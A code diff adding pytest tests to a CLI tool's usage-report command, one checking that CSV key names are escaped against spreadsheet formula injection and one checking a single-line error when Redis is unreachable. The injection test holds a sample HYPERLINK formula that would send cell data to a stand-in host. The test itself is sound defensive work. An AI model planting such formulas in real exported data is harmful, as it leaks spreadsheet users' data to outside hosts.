@@ -4,6 +4,9 @@ import asyncio
 import csv
 import io
 import json
+import os
+import subprocess
+import sys
 from collections.abc import Mapping
 from pathlib import Path
 
@@ -17,6 +20,7 @@ from app.usage.redis_store import RedisUsageStore
 from app.usage.store import KeyMonth
 from testing.servers.redis import RedisServer
 
+ROOT = Path(__file__).parents[2]
 COUNTS = {
     "requests": 7,
     "captions caption": 4,
@@ -83,6 +87,21 @@ def test_json_has_the_shape_of_the_api_and_csv_a_line_for_every_key(
     ]  # fmt: skip
 
 
+def test_a_name_in_csv_is_no_formula_of_a_spreadsheet(
+    capsys: pytest.CaptureFixture[str], current: Month, tmp_path: Path
+) -> None:
+    names = ('=HYPERLINK("http://a/?"&A1)', "+1", "-1", "@sum", "a=b", 'a"b,c', "é")
+    entries = [KeyEntry(name=name, sha256=f"{number:064}") for number, name in enumerate(names)]
+    write_keys_file(tmp_path / "keys.json", KeysFile(keys=entries))
+    assert main(["usage", "--csv"]) == exit_codes.OK
+    rows: list[Mapping[str, str]] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    expected = {f"'{name}" for name in names[:4]} | set(names[4:])
+    assert {row["key"] for row in rows} >= expected
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+    assert main(["usage", "--json"]) == exit_codes.OK
+    assert set(names) <= {key["key"] for key in json.loads(capsys.readouterr().out)}
+
+
 def test_another_month_has_no_quota(capsys: pytest.CaptureFixture[str], current: Month) -> None:
     assert main(["usage", "--month", "2020-02"]) == exit_codes.OK
     _, _idle, shop = capsys.readouterr().out.splitlines()
@@ -121,3 +140,20 @@ def test_a_store_that_is_away_is_told_without_its_url(
     captured = capsys.readouterr()
     assert "does not respond" in captured.err
     assert "hunter2" not in captured.err + captured.out
+
+
+def test_a_store_that_is_away_is_one_line(tmp_path: Path) -> None:
+    """In a process of its own: here pytest handles what is logged."""
+    done = subprocess.run(
+        [sys.executable, "-m", "app", "usage"],
+        cwd=tmp_path,
+        env={**os.environ, "PYTHONPATH": str(ROOT), "ALTWRIGHT_USAGE_STORE": "redis://127.0.0.1:1"},
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+    assert done.returncode == exit_codes.FAILED
+    assert done.stderr.splitlines() == [
+        "altwright: the usage store does not respond; start Redis, or correct ALTWRIGHT_USAGE_STORE"
+    ]
